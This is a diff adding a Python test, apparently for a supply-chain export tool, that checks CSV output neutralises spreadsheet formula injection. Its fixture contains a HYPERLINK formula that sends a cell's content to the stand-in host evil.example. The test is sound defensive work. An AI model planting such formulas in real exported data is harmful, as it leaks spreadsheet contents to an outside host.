@@ -70,6 +70,33 @@ def test_the_forum_reads_back_as_the_api_answers(engine_store, tmp_path, fmt):
         assert never.encode() not in raw, never
 
 
+def test_text_a_spreadsheet_would_run_is_text_in_the_csv_and_as_written_elsewhere(
+    engine_store, tmp_path
+):
+    """A supplier names its sub-suppliers: a name or commodity starting with =, +, -
+    or @ would run as a formula in the analyst's spreadsheet (OWASP's CSV
+    injection). The CSV cell gets a leading apostrophe; JSON Lines and GraphML,
+    read by programs, keep the text as written."""
+    batch = forum()
+    names = {"S2": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "S3": "-2+3"}
+    batch.organisations = [replace(o, name=names.get(o.id, o.name)) for o in batch.organisations]
+    batch.sourcing = [*batch.sourcing, Sourcing("S1", "S2", "@SUM(1+1)")]
+    engine_store.write(batch)
+    reads = {}
+    for fmt in FORMATS:
+        write_export(engine_store, "M1", ExportFormat(fmt), AS_OF, tmp_path / f"m1.{fmt}")
+        reads[fmt] = read_export(tmp_path / f"m1.{fmt}", fmt)
+    csv_read = reads.pop("csv")
+    assert csv_read.nodes["S2"]["name"] == "'" + names["S2"]
+    assert csv_read.nodes["S3"]["name"] == "'-2+3"
+    assert csv_read.edges[("S1", "S2")] == ["'@SUM(1+1)", "cocoa"]  # the cell, split at ;
+    assert csv_read.nodes["S1"]["name"] == reads["jsonl"].nodes["S1"]["name"]  # others as written
+    for fmt, read in reads.items():
+        assert read.nodes["S2"]["name"] == names["S2"], fmt
+        assert read.nodes["S3"]["name"] == "-2+3", fmt
+        assert "@SUM(1+1)" in read.edges[("S1", "S2")], fmt
+
+
 def _all_bytes(path, fmt) -> bytes:
     if fmt == "csv":
         with zipfile.ZipFile(path) as archive:
